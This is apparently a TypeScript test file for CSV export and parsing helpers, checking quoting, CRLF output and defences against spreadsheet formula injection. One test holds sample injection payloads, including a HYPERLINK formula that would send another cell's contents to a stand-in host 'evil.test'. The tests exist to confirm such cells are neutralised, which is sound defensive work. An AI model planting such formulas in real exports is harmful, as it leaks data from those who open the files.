import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CsvColumn, csvCell, csvDocument, parseCsv } from '../../../shared/domain/csv';

/** What a spreadsheet would evaluate: a cell whose (unquoted) text starts with one of these. */
const EVALUATED = /^[=+\-@\t\r]/;

/** Reads one CSV line back into cells (RFC 4180), as a spreadsheet would before evaluating them. */
function readCells(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let cell = '';
      i++;
      while (i < line.length) {
        if (line[i] === '"' && line[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (line[i] === '"') {
          i++;
          break;
        } else cell += line[i++];
      }
      cells.push(cell);
      i++;
    } else {
      const end = line.indexOf(',', i);
      cells.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return cells;
}

describe('csvCell', () => {
  it('quotes cells holding quotes, commas or line breaks, and writes objects as JSON', () => {
    const cells = ['plain', 'a,b', 'say "hi"', 'two\nlines', null, 3, { after: { name: 'X' } }];
    expect(cells.map((cell) => csvCell(cell, 'text')).join(',')).toBe(
      'plain,"a,b","say ""hi""","two\nlines",,3,"{""after"":{""name"":""X""}}"',
    );
  });

  it('keeps every text a spreadsheet would run from running, the red team’s included', () => {
    expect(csvCell('-1+1+HYPERLINK("http://evil.test/?x="&B2)', 'text')).toBe(
      '"\'-1+1+HYPERLINK(""http://evil.test/?x=""&B2)"',
    );
    expect(csvCell('=HYPERLINK("http://evil")', 'text')).toBe('"\'=HYPERLINK(""http://evil"")"');
    expect(csvCell('@SUM(A1)', 'text')).toBe("'@SUM(A1)");
    expect(csvCell('+1 555', 'text')).toBe("'+1 555");
    expect(csvCell('\t=1', 'text')).toBe("'\t=1");
    expect(csvCell('\r=1', 'text')).toBe('"\'\r=1"');
    // A number in a text column is text there: a name like "-1" is not a figure.
    expect(csvCell('-1', 'text')).toBe("'-1");
  });

  it('leaves plain numbers in numeric columns alone, and guards anything else there', () => {
    expect(csvCell(-44, 'number')).toBe('-44');
    expect(csvCell('-44.00', 'number')).toBe('-44.00');
    expect(csvCell(-0.44, 'number')).toBe('-0.44');
    expect(csvCell(12n, 'number')).toBe('12');
    expect(csvCell('-1+1', 'number')).toBe("'-1+1");
    expect(csvCell('-1e5', 'number')).toBe("'-1e5");
    expect(csvCell('Olivia Owner', 'text')).toBe('Olivia Owner');
    expect(csvCell(null, 'number')).toBe('');
  });

  it('never lets a cell a spreadsheet reads start like a formula, unless it is a plain number', () => {
    const kinds = fc.constantFrom<'text' | 'number'>('text', 'number');
    const text = fc.oneof(
      fc.string(),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ','), fc.string()).map(([a, b]) => a + b),
      fc.double({ noNaN: true }).map(String),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(text, kinds), { minLength: 1, maxLength: 5 }), (cells) => {
        const line = cells.map(([value, kind]) => csvCell(value, kind)).join(',');
        const read = readCells(line);
        expect(read).toHaveLength(cells.length);
        read.forEach((cell, i) => {
          const [value, kind] = cells[i] as [string, 'text' | 'number'];
          if (EVALUATED.test(cell)) {
            expect(kind).toBe('number');
            expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
          }
          // Nothing is lost: the guard only ever adds one apostrophe.
          expect(cell === value || cell === `'${value}`).toBe(true);
        });
      }),
    );
  });
});

describe('csvDocument', () => {
  it('writes the header and every row with CRLF line ends', () => {
    const columns: CsvColumn<{ name: string; n: number }>[] = [
      { header: 'name', kind: 'text', value: (row) => row.name },
      { header: 'n', kind: 'number', value: (row) => row.n },
    ];
    expect(
      csvDocument(columns, [
        { name: 'a', n: -1 },
        { name: '=b', n: 2 },
      ]),
    ).toBe("name,n\r\na,-1\r\n'=b,2\r\n");
  });
});

describe('parseCsv', () => {
  it('reads quotes, quoted commas and line breaks, CRLF and a byte-order mark, with each record’s first line', () => {
    const text = '\uFEFFname,handle\r\n"Bot, the first",bot\r\n\r\n"Two\nlines","say ""hi"""\nlast,row';
    expect(parseCsv(text)).toEqual([
      { line: 1, cells: ['name', 'handle'] },
      { line: 2, cells: ['Bot, the first', 'bot'] },
      { line: 4, cells: ['Two\nlines', 'say "hi"'] },
      { line: 6, cells: ['last', 'row'] },
    ]);
  });

  it('reads back what the CSV writer writes', () => {
    const columns = [
      { header: 'name', kind: 'text' as const, value: (row: string[]) => row[0] },
      { header: 'note', kind: 'text' as const, value: (row: string[]) => row[1] },
    ];
    const rows = [
      ['a, b', 'line\none'],
      ['"quoted"', 'plain'],
    ];
    expect(parseCsv(csvDocument(columns, rows)).map((record) => record.cells)).toEqual([
      ['name', 'note'],
      ...rows,
    ]);
  });
});
